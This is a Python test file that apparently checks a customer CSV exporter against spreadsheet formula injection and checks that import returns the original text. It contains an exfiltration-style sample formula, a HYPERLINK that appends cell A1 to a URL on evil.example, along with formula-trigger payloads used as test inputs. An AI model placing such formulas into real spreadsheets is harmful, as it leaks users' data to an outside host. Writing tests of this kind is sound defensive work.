"""A file of customers is opened in a spreadsheet: nothing that somebody was called is calculated there, and what comes
back by an import is the very text."""

import csv
import io
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from chalicelib.desk.attributes import Type
from chalicelib.desk.customer_csv import OWN, columns_of, rows_of, written
from chalicelib.desk.customers import Customer

TYPES: dict[str, Type] = {"note": "string", "tags": "list", "arr": "number", "vip": "boolean"}
SIGNS = "=+-@＝＋－＠"  # noqa: RUF001
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'
texts = st.text(st.sampled_from([*SIGNS, *"';, \t\r\n\"a1|\u2003\x00"]), max_size=8) | st.text(max_size=8)
said = texts.filter(bool)


def customer(**fields: Any) -> Customer:
    return Customer(
        **{"id": "cus_1", "workspace": "w", "external_id": "acme", "name": "Acme", "created_at": 1, **fields}
    )


def read(file: str, types: dict[str, Type] = TYPES) -> dict[str, Any]:
    (row,) = rows_of(file, columns_of(file), types)
    return dict(row["customer"])


@pytest.mark.parametrize("sign", SIGNS)
@pytest.mark.parametrize("before", ["", " ", "\t", "\r", "\n", "'", "''", "a;", "a,", "a\n", "\u3000"])
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_begins_as_a_formula_does_whatever_parts_the_cells(sign: str, before: str, delimiter: str) -> None:
    evil = f"{before}{sign}1+1"
    types: dict[str, Type] = {**TYPES, evil.strip(): "string"} if evil.isprintable() else TYPES
    file = written(
        [customer(name=evil, external_id=evil, contact=evil, attributes={"note": evil, "tags": [evil]})], types
    )
    for line in csv.reader(io.StringIO(file, newline=""), delimiter=delimiter):
        for cell in line:
            assert cell.strip().lstrip('"')[:1] not in tuple(SIGNS), cell


def test_numbers_stay_numbers() -> None:
    file = written([customer(attributes={"arr": -5, "note": "-5"})], TYPES)
    assert file.splitlines()[1].endswith(",'-5,,-5,")
    assert read(file)["attributes"] == {"arr": -5, "note": "-5"}


@given(said, said, texts, st.lists(said, min_size=1, max_size=4), st.integers(-9, 9))
@example(EVIL, EVIL, EVIL, [EVIL], -1)
@example("'t Hooft", "'", "' ", ["a;b", "'=", '"q"'], 0)
def test_an_import_gives_back_the_very_text(name: str, contact: str, note: str, tags: list[str], arr: int) -> None:
    attributes = {"note": note, "tags": tags, "arr": arr, "vip": arr > 0}
    there = customer(name=name, external_id=name, contact=contact, domains=("a.example",), attributes=attributes)
    back = read(written([there], TYPES))
    assert back["attributes"] == attributes
    assert (back["name"], back["external_id"], back["contact"]) == (name, name, contact)
    assert back["domains"] == ["a.example"]


@given(st.text(max_size=20).filter(lambda name: name.isprintable() and name.strip() and name not in OWN))
@example("=1+1")
@example("'=1+1")
def test_so_is_the_name_of_an_attribute(name: str) -> None:
    types: dict[str, Type] = {name: "string"}
    assert read(written([customer(attributes={name: "x"})], types), types)["attributes"] == {name: "x"}


@pytest.mark.parametrize(
    ("cell", "text"),
    [(" Acorn ", "Acorn"), ("'s-Hertogenbosch", "'s-Hertogenbosch"), ("=1+1", "=1+1"), ("'=1+1", "=1+1"), ("-5", "-5")],
)
def test_what_people_write_themselves_is_read_as_they_meant_it(cell: str, text: str) -> None:
    assert read(f"external_id,note,tags\na,{cell},{cell}; {cell}\n")["attributes"] == {"note": text, "tags": [text] * 2}
